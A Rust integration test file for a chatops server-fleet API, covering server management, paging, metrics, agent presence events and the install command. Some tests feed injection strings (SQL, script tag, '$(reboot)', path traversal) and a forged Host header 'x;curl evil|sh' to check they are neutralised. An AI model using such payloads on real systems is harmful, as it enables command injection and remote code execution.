//! The fleet: adding, changing, removing, listing; conflicts; latest, history and events.

use chatops_schemas::{
    clock::Timestamp,
    event::{
        ctl::ServerChanged,
        fact::{AgentConnected, AgentDisconnected, AgentHello, TimedGrant, Transport},
    },
    ids::{KeyId, ServerId},
    subject::{self, Entity},
};
use chatops_testkit::{eventually, until};
use serde_json::{Value, json};

use crate::app::{App, SOON};

#[tokio::test(flavor = "multi_thread")]
async fn a_server_is_added_changed_and_removed() {
    let app = App::start().await;
    let owner = app.owner().await;
    let body = json!({"name": " web-1 ", "tags": ["prod", "prod", "eu"], "interval_ms": 2000});
    let (status, server) = owner.post("/api/v1/servers", &body).await;
    assert_eq!(status, 201, "{server}");
    assert_eq!(
        (&server["name"], &server["tags"], &server["interval_ms"]),
        (&json!("web-1"), &json!(["prod", "eu"]), &json!(2000))
    );
    assert_eq!(
        (&server["status"], &server["owner"]["username"]),
        (&json!("never"), &json!("root"))
    );
    assert_eq!(
        (&server["agent"], &server["latest"], &server["last_seen"]),
        (&Value::Null, &Value::Null, &Value::Null)
    );
    let path = format!("/api/v1/servers/{}", server["id"].as_str().unwrap());

    // Read your writes: every answer is the row as it is now.
    for n in 0..5 {
        let (status, changed) = owner
            .patch(&path, &json!({"name": format!("web-{n}")}))
            .await;
        assert_eq!(
            (status, &changed["name"]),
            (200, &json!(format!("web-{n}")))
        );
        assert_eq!(owner.get(&path).await.1["name"], changed["name"]);
    }
    assert_eq!(owner.patch(&path, &json!({})).await.0, 200);
    assert_eq!(owner.patch(&path, &json!({"owner": "me"})).await.0, 422);
    assert_eq!(owner.delete(&path).await.0, 204);
    assert_eq!(owner.get(&path).await.1["code"], "CO1201");
    assert_eq!(owner.delete(&path).await.0, 404);
}

#[tokio::test(flavor = "multi_thread")]
async fn changes_at_the_same_time_are_all_decided_on_what_is_there() {
    let app = App::start().await;
    let owner = app.owner().await;
    let server = owner.add_server("web-1").await;
    let path = format!("/api/v1/servers/{server}");
    // Each changes another field, so none may undo another.
    let answers = futures::future::join_all([
        owner.patch(&path, &json!({"name": "renamed"})),
        owner.patch(&path, &json!({"tags": ["tagged"]})),
        owner.patch(&path, &json!({"interval_ms": 9000})),
    ])
    .await;
    assert!(
        answers.iter().all(|(status, _)| *status == 200),
        "{answers:?}"
    );
    let (_, now) = owner.get(&path).await;
    assert_eq!(
        (&now["name"], &now["tags"], &now["interval_ms"]),
        (&json!("renamed"), &json!(["tagged"]), &json!(9000))
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_event_from_elsewhere_is_not_overwritten_unseen() {
    let app = App::start().await;
    let owner = app.owner().await;
    let id = owner.add_server("web-1").await;
    let server = ServerId::parse(id.clone()).unwrap();
    let subject = subject::ctl(Entity::Server, server.as_str());
    let last = app
        .bus
        .last(chatops_bus::StreamName::Ctl, &subject)
        .await
        .unwrap()
        .unwrap();
    // Another process appends; the row of this one may not show it yet.
    let changed = ServerChanged {
        server: server.clone(),
        name: "theirs".to_owned(),
        tags: vec![],
        interval_ms: None,
        needs_approval: None,
    };
    let event = chatops_schemas::envelope::Envelope::new(
        chatops_schemas::clock::IdSource::event_id(&chatops_schemas::clock::System),
        crate::app::now(),
        changed,
    );
    app.bus
        .append(chatops_bus::StreamName::Ctl, &subject, last.seq, &event)
        .await
        .unwrap();
    let (status, now) = owner
        .patch(&format!("/api/v1/servers/{id}"), &json!({"tags": ["mine"]}))
        .await;
    assert_eq!(
        (status, &now["name"], &now["tags"]),
        (200, &json!("theirs"), &json!(["mine"])),
        "{now}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn names_that_look_like_code_are_names() {
    let app = App::start().await;
    let owner = app.owner().await;
    for name in [
        "'; DROP TABLE servers; --",
        "<script>alert(1)</script>",
        "$(reboot)",
        "../../etc/passwd",
        "%s%n",
        "東京",
    ] {
        let id = owner.add_server(name).await;
        let (_, server) = owner.get(&format!("/api/v1/servers/{id}")).await;
        assert_eq!(server["name"], name);
        let url =
            reqwest::Url::parse_with_params("http://x/api/v1/servers", [("q", name)]).unwrap();
        let path = format!("{}?{}", url.path(), url.query().unwrap());
        let request = owner.request(reqwest::Method::GET, &path);
        assert_eq!(owner.send(request).await.1["total"], 1, "{name}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_list_is_paged_filtered_and_only_of_ones_own() {
    let app = App::start().await;
    let owner = app.owner().await;
    let ada = app.operator("ada").await;
    for n in 0..7 {
        let body =
            json!({"name": format!("web-{n}"), "tags": [if n % 2 == 0 { "even" } else { "odd" }]});
        assert_eq!(ada.post("/api/v1/servers", &body).await.0, 201);
    }
    owner.add_server("secret").await;
    let (mut names, mut after) = (Vec::new(), String::new());
    loop {
        let (status, page) = ada
            .get(&format!("/api/v1/servers?limit=3&after={after}"))
            .await;
        assert_eq!((status, &page["total"]), (200, &json!(7)), "{page}");
        names.extend(
            page["servers"]
                .as_array()
                .unwrap()
                .iter()
                .map(|one| one["name"].as_str().unwrap().to_owned()),
        );
        match page["next"].as_str() {
            Some(next) => {
                after = reqwest::Url::parse_with_params("http://x", [("a", next)])
                    .unwrap()
                    .query()
                    .unwrap()[2..]
                    .to_owned()
            }
            None => break,
        }
    }
    assert_eq!(
        names,
        (0..7).map(|n| format!("web-{n}")).collect::<Vec<_>>()
    );
    assert_eq!(
        ada.get("/api/v1/servers?tag=even&status=never").await.1["total"],
        4
    );
    assert_eq!(ada.get("/api/v1/servers?q=secret").await.1["total"], 0);
    assert_eq!(owner.get("/api/v1/servers").await.1["total"], 8);
    let (_, table) = ada.get("/api/v1/servers?format=columns&limit=2").await;
    assert_eq!(table["columns"][1], "name");
    assert_eq!(
        (&table["rows"][0][1], &table["total"]),
        (&json!("web-0"), &json!(7))
    );
    for bad in [
        "limit=0",
        "limit=1001",
        "limit=x",
        "status=gone",
        "format=xml",
    ] {
        assert_eq!(
            ada.get(&format!("/api/v1/servers?{bad}")).await.0,
            422,
            "{bad}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sample_is_latest_history_and_row() {
    let app = App::start().await;
    let owner = app.owner().await;
    let server = owner.add_server("web-1").await;
    let (status, none) = owner.get(&format!("/api/v1/metrics/{server}/latest")).await;
    assert_eq!((status, none["code"].as_str()), (404, Some("CO1203")));
    let seq = app.sample(&server, 12.34).await;
    let (status, latest) = owner.get(&format!("/api/v1/metrics/{server}/latest")).await;
    assert_eq!(
        (status, &latest["seq"], &latest["sample"]["cpu"]["total"]),
        (200, &json!(seq), &json!(12.34)),
        "{latest}"
    );
    let row = until("the sample is a row", SOON, || async {
        let (_, server) = owner.get(&format!("/api/v1/servers/{server}")).await;
        server["latest"]
            .is_object()
            .then(|| server["latest"].clone())
    })
    .await;
    assert_eq!(
        (&row["cpu"], &row["mem"], &row["seq"], &row["swap"]),
        (&json!(12.3), &json!(25.0), &json!(seq), &Value::Null)
    );
    assert_eq!(row["ts"], latest["ts"]);

    let history = format!("/api/v1/metrics/{server}/history?series=cpu,mem&from=now-15m");
    let (status, lines) = owner.get(&history).await;
    assert_eq!(
        (
            status,
            &lines["resolution"],
            lines["series"].as_array().unwrap().len()
        ),
        (200, &json!("raw"), 2),
        "{lines}"
    );
    assert!(
        lines["series"][0]["avg"]
            .as_array()
            .unwrap()
            .contains(&json!(12.34)),
        "{lines}"
    );
    let (status, series) = owner.get(&format!("/api/v1/metrics/{server}/series")).await;
    assert!(
        status == 200 && series.to_string().contains("\"cpu\""),
        "{series}"
    );
    for bad in [
        "from=x",
        "series=nonsense",
        "max_points=0",
        "from=now&to=now-1h",
        "series=cpu'--",
    ] {
        assert_eq!(
            owner
                .get(&format!("/api/v1/metrics/{server}/history?{bad}"))
                .await
                .0,
            422,
            "{bad}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn connections_are_presence_and_events() {
    let app = App::start().await;
    let owner = app.owner().await;
    let server = owner.add_server("web-1").await;
    let path = format!("/api/v1/servers/{server}");
    let connected = AgentConnected {
        session: "s1".to_owned(),
        key: KeyId::parse("k1").unwrap(),
        transport: Transport::Nats,
        address: Some("192.0.2.7".to_owned()),
        orders: false,
    };
    app.fact(&server, subject::PRESENCE, connected).await;
    let hello = AgentHello {
        version: "0.1.0".to_owned(),
        hostname: "web-1.example".to_owned(),
        grants: vec![TimedGrant {
            capability: "exec".to_owned(),
            until: Timestamp::from_micros(1_900_000_000_000_000),
        }],
        ..AgentHello::default()
    };
    app.fact(&server, subject::HELLO, hello).await;
    app.sample(&server, 1.0).await;
    eventually("the server is online with its agent", SOON, || async {
        let (_, now) = owner.get(&path).await;
        now["status"] == "online"
            && now["agent"]["hostname"] == "web-1.example"
            && now["agent"]["grants"]
                == json!([{"capability": "exec", "until": "2030-03-17T17:46:40.000Z"}])
            && now["connected_since"].is_string()
    })
    .await;
    let gone = AgentDisconnected {
        session: "s1".to_owned(),
        transport: Transport::Nats,
        address: None,
        reason: Some("Client Closed".to_owned()),
        remaining: 0,
    };
    app.fact(&server, subject::PRESENCE, gone).await;
    eventually("the server is offline", SOON, || async {
        owner.get(&path).await.1["status"] == "offline"
    })
    .await;
    let (status, events) = owner.get(&format!("{path}/events?limit=1")).await;
    assert_eq!(
        (status, &events["events"][0]["kind"]),
        (200, &json!("disconnected")),
        "{events}"
    );
    let next = events["next"].as_str().unwrap();
    let (_, events) = owner
        .get(&format!("{path}/events?limit=1&after={next}"))
        .await;
    assert_eq!(
        (&events["events"][0]["kind"], &events["next"]),
        (&json!("connected"), &Value::Null),
        "{events}"
    );
    for bad in ["limit=0", "limit=501", "after=x"] {
        assert_eq!(
            owner.get(&format!("{path}/events?{bad}")).await.0,
            422,
            "{bad}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_install_command_names_this_server_and_nothing_from_a_forged_host() {
    let app = App::start().await;
    let owner = app.owner().await;
    let server = owner.add_server("web-1").await;
    let path = format!("/api/v1/servers/{server}/install");
    let (status, install) = owner.get(&path).await;
    assert_eq!(
        (status, &install["http_url"]),
        (200, &json!(app.url(""))),
        "{install}"
    );
    let command = install["commands"][0]["command"].as_str().unwrap();
    assert!(
        command.starts_with("chatops-agent run --url nats://")
            && command.ends_with("--api-key <API_KEY>"),
        "{command}"
    );
    let forged = owner
        .request(reqwest::Method::GET, &path)
        .header("Host", "x;curl evil|sh");
    let (_, install) = owner.send(forged).await;
    assert!(!install.to_string().contains("evil"), "{install}");
}
